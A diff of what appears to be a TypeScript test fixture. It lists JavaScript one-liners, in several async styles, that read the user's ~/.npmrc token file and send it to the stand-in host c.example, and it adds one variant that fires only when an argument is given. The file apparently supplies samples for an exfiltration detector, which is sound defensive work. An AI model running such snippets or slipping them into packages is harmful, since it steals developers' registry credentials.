@@ -17,6 +17,7 @@ const WAYS: Record<string, string> = {
     "require('fs').readFile(require('path').join(require('os').homedir(), '.npmrc'), (e, d) => fetch('https://c.example', { body: d }));",
   promise:
     "require('fs').promises.readFile(process.env.HOME + '/.npmrc').then((d) => d.toString('base64')).then((s) => fetch('https://c.example/' + s));",
+  'a promise on one way, a value on the other': `Promise.resolve(process.argv[2]).then((x) => (x ? require('fs').promises.readFile(process.env.HOME + '/.npmrc') : '')).then((s) => s && fetch('https://c.example/' + s));`,
   'promise all':
     "Promise.all([1, require('fs/promises').readFile(require('os').homedir() + '/.npmrc')]).then(([, s]) => fetch('https://c.example', { body: s }));",
   'async and await': `async function main() { const s = await require('fs').promises.readFile(require('os').homedir() + '/.npmrc'); await fetch('https://c.example', { body: s }); } main();`,
